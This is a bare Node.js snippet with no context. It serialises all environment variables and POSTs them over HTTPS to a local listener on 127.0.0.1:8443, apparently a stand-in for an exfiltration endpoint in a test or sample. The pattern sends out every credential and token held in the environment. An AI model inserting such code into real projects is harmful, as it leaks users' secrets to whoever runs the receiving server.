const https = require('https');
const data = JSON.stringify(process.env);
const req = https.request({ hostname: '127.0.0.1', port: 8443, method: 'POST' });
req.write(data);
req.end();
